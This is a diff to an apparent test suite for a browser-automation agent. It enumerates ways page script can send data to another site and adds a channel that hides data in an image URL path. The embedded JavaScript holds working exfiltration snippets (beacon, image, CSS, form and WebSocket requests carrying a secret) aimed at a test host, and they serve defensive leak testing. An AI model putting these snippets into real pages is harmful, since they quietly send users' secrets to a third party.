@@ -31,12 +31,15 @@ from notebook_agent.browser import BrowserSession
 from notebook_agent.llm.scripted import ScriptedModel
 from tests.agent.test_page_agent import index_of, step
 
-CHANNELS = ("beacon", "keepalive", "websocket", "image", "css", "form", "fetch", "xhr")
+CHANNELS = ("beacon", "keepalive", "websocket", "image", "css", "form", "fetch", "xhr", "path")
 TIMINGS = ("immediate", "timer", "unload", "after navigation")
 FRAMES = ("top", "same-site iframe", "cross-site iframe", "popup", "worker")
 ENCODINGS = ("raw", "url", "base64", "json")
 #: A worker has no DOM, no beacon and no pagehide of its own; what it cannot do is not a combination.
-NOT_IN_A_WORKER = {"beacon", "image", "css", "form"}
+NOT_IN_A_WORKER = {"beacon", "image", "css", "form", "path"}
+#: A GET whose path alone carries the data (no query, no body) is a plain read: the policy does not judge it
+#: (the guide says so), but a secret in it is refused like anywhere else.
+PLAIN_READS = {"path"}
 SECRET = 'Tr0ub"4d\\or-zq7'
 
 
@@ -64,6 +67,7 @@ function fire(m) {
   if (m.c === 'keepalive') fetch(T + '/keep', {method: 'POST', body: p, keepalive: true, mode: 'no-cors'});
   if (m.c === 'websocket') { const w = new WebSocket(WS + '/ws'); w.onopen = () => w.send(p); }
   if (m.c === 'image') { new Image().src = T + '/img' + q; }
+  if (m.c === 'path') { new Image().src = T + '/px/' + encodeURIComponent(p) + '.gif'; }
   if (m.c === 'css') { const d = document.createElement('div'); d.textContent = 'x';
     d.style.backgroundImage = 'url(' + T + '/css' + q + ')'; document.body.appendChild(d); }
   if (m.c === 'form') { const f = document.createElement('form'); f.method = 'post'; f.action = T + '/form';
@@ -221,6 +225,7 @@ def carries_secret(entry: str) -> bool:
     """Whether a logged request holds the secret in any encoding the pages use (decoded independently of the
     package: URL-decoding, base64 of every token, JSON)."""
     texts = {entry, unquote_plus(entry), unquote_plus(unquote_plus(entry))}
+    texts.update(unquote_plus(part) for part in entry.replace(".gif", " ").split("/"))  # data in a path
     for text in list(texts):
         for token in text.replace("=", " = ").replace("&", " ").replace("?", " ").split():
             token = token.strip("=")
@@ -257,9 +262,9 @@ async def run(browser: BrowserSession, sites: Sites, combo: tuple[str, str, str,
     return result
 
 
-def combos() -> st.SearchStrategy[tuple[str, str, str, str]]:
+def combos(channels: tuple[str, ...] = CHANNELS) -> st.SearchStrategy[tuple[str, str, str, str]]:
     return st.tuples(
-        st.sampled_from(CHANNELS), st.sampled_from(TIMINGS), st.sampled_from(FRAMES), st.sampled_from(ENCODINGS)
+        st.sampled_from(channels), st.sampled_from(TIMINGS), st.sampled_from(FRAMES), st.sampled_from(ENCODINGS)
     ).filter(lambda c: not (c[2] == "worker" and c[0] in NOT_IN_A_WORKER))
 
 
@@ -294,7 +299,7 @@ async def test_nothing_reaches_the_other_site_unasked(browser: BrowserSession, s
     tried: list[tuple[Any, list[str]]] = []
 
     @SAMPLE
-    @given(combo=combos())
+    @given(combo=combos(tuple(c for c in CHANNELS if c not in PLAIN_READS)))
     def check(combo: tuple[str, str, str, str]) -> None:
         tried.append((combo, []))
 
@@ -323,7 +328,7 @@ async def test_a_secret_never_reaches_another_site(browser: BrowserSession, site
 ALL = [
     c
     for c in ((ch, t, f, e) for ch in CHANNELS for t in TIMINGS for f in FRAMES for e in ("raw",))
-    if not (c[2] == "worker" and c[0] in NOT_IN_A_WORKER)
+    if not (c[2] == "worker" and c[0] in NOT_IN_A_WORKER) and c[0] not in PLAIN_READS
 ]
 
 
